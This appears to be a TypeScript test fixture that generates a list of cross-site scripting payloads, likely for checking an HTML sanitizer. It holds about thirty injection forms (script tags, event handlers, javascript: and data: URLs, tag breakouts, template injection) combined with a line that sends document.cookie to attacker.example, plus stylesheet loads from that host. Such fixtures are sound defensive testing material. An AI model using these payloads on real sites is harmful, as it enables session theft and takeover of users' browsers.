/** Texts that run a script, or load something, where they are taken for HTML, CSS or an address. */
const run = ['alert(1)', 'globalThis.attacked=1', "fetch('//attacker.example/'+document.cookie)"];

const forms: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<body onload=${code}>`,
  (code) => `<iframe srcdoc="<script>${code}</script>">`,
  (code) => `<iframe src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">link</a>`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><img src=x onerror='${code}'>`,
  (code) => `" onmouseover="${code}" x="`,
  (code) => `' onfocus='${code}' autofocus='`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `<!--><script>${code}</script>-->`,
  (code) => `<math><mtext><style><img src=x onerror="${code}"></style></mtext></math>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<form action="javascript:${code}"><button>Send</button></form>`,
  (code) => `<style>@import '//attacker.example/x.css';</style><script>${code}</script>`,
  (code) => `[link](javascript:${code})`,
  (code) => `\`<img src=x onerror=${code}>\``,
  (code) => `\`\`\`<script>${code}</script>\`\`\``,
  (code) => `{{constructor.constructor('${code}')()}}`,
];

/** One for each form and code, and one that only loads. */
export const payloads: readonly string[] = [
  ...forms.flatMap((form) => run.map(form)),
  '<link rel=stylesheet href=//attacker.example/x.css>',
];
